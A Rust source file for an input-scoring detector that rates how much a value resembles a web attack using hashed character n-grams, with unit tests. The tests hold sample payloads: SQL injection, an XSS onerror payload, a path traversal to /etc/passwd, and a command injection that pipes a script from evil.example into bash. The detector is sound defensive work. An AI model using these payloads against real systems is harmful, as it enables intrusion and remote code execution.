//! A linear model over the characters of a value: how much it looks like an attack, and how much like what people and
//! programs send. It weighs what the detectors found; the model card beside the weights says what it was made from.

use crate::text::{span, steps};

/// Weights, one for each slot that n-grams of characters are hashed to.
pub const SLOTS: usize = 1 << 17;
/// Lengths of the n-grams, in characters.
const GRAMS: std::ops::RangeInclusive<usize> = 2..=4;
/// Bytes of a value that are read; more say little new. Chosen.
pub const WINDOW: usize = 240;

static WEIGHTS: &[u8; SLOTS] = include_bytes!("../model/weights.bin");
/// What one step of a weight is worth; the bias of the model is of a place like any other.
const STEP: f32 = 1.0 / 8.0;

/// Says how much a value looks like an attack: the logarithm of the odds, zero where it cannot tell.
pub fn likeness(value: &[u8]) -> f32 {
    let mut sum = 0_i32;
    let mut grams = 0_u16;
    slots(value, |slot| {
        sum += WEIGHTS
            .get(slot)
            .map_or(0, |weight| i32::from(weight.cast_signed()));
        grams = grams.saturating_add(1);
    });
    // At most three n-grams for each byte of the window: every sum is a small number.
    #[expect(
        clippy::cast_precision_loss,
        reason = "a sum of some hundred bytes is exact"
    )]
    let sum = sum as f32;
    if grams == 0 {
        return 0.0;
    }
    sum * STEP / f32::from(grams).sqrt()
}

/// Gives the slot of every n-gram at the beginning of a value, as the model reads it.
///
/// Letters lose their case and digits their value; everything above ASCII is one letter, and what separates one word
/// from another is one blank.
pub fn slots(value: &[u8], mut each: impl FnMut(usize)) {
    let text = span(value, 0, WINDOW);
    steps::count(text.len() * 3);
    let mut folded = [0_u8; WINDOW + 2];
    let mut length = 0;
    let mut before = 0;
    for b in std::iter::once(b' ').chain(text.iter().copied()) {
        let b = match b {
            b'0'..=b'9' => b'0',
            b'\t' | b'\r' | b'\n' | 0x0b | 0x0c | b'+' => b' ',
            0x80.. => 0x80,
            b => b.to_ascii_lowercase(),
        };
        // Runs of blanks, digits and letters of other scripts are as long as they like.
        if matches!(b, b' ' | b'0' | 0x80) && b == before {
            continue;
        }
        before = b;
        if let Some(slot) = folded.get_mut(length) {
            *slot = b;
            length += 1;
        }
    }
    let folded = span(&folded, 0, length);
    for size in GRAMS {
        for gram in folded.windows(size) {
            each(slot(gram));
        }
    }
}

/// Hashes an n-gram (FNV-1a, the upper half folded onto the lower).
fn slot(gram: &[u8]) -> usize {
    let hash = gram.iter().fold(0x811c_9dc5_u32, |hash, b| {
        (hash ^ u32::from(*b)).wrapping_mul(0x0100_0193)
    });
    (hash ^ (hash >> 15)) as usize & (SLOTS - 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_are_told_from_prose_and_from_noise() {
        for attack in [
            "1' and (select 7 from (select(sleep(9)))q) and '1'='1",
            "<img src=q onerror=prompt(document.domain)>",
            ";curl -s http://evil.example/a.sh|bash",
            "../../../../../../etc/passwd",
        ] {
            assert!(likeness(attack.as_bytes()) > 0.0, "{attack}");
        }
        for ordinary in [
            "您好，请问社保卡丢了怎么补办？谢谢！",
            "please send me the report before the end of the week, thanks",
            "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTYifQ",
            "GA1.2.204512345.1718000000",
        ] {
            assert!(likeness(ordinary.as_bytes()) < 0.0, "{ordinary}");
        }
    }

    #[test]
    fn values_of_any_length_cost_no_more_than_the_window() {
        let slots_of = |text: &[u8]| {
            let mut count = 0;
            slots(text, |slot| {
                assert!(slot < SLOTS);
                count += 1;
            });
            count
        };
        assert_eq!(slots_of(b""), 0);
        let text: Vec<u8> = (0..100_000_u32).map(|n| b'a' + (n % 7) as u8).collect();
        assert!(slots_of(&text) <= 3 * (WINDOW + 1));
        assert!(likeness(&text).is_finite());
    }
}
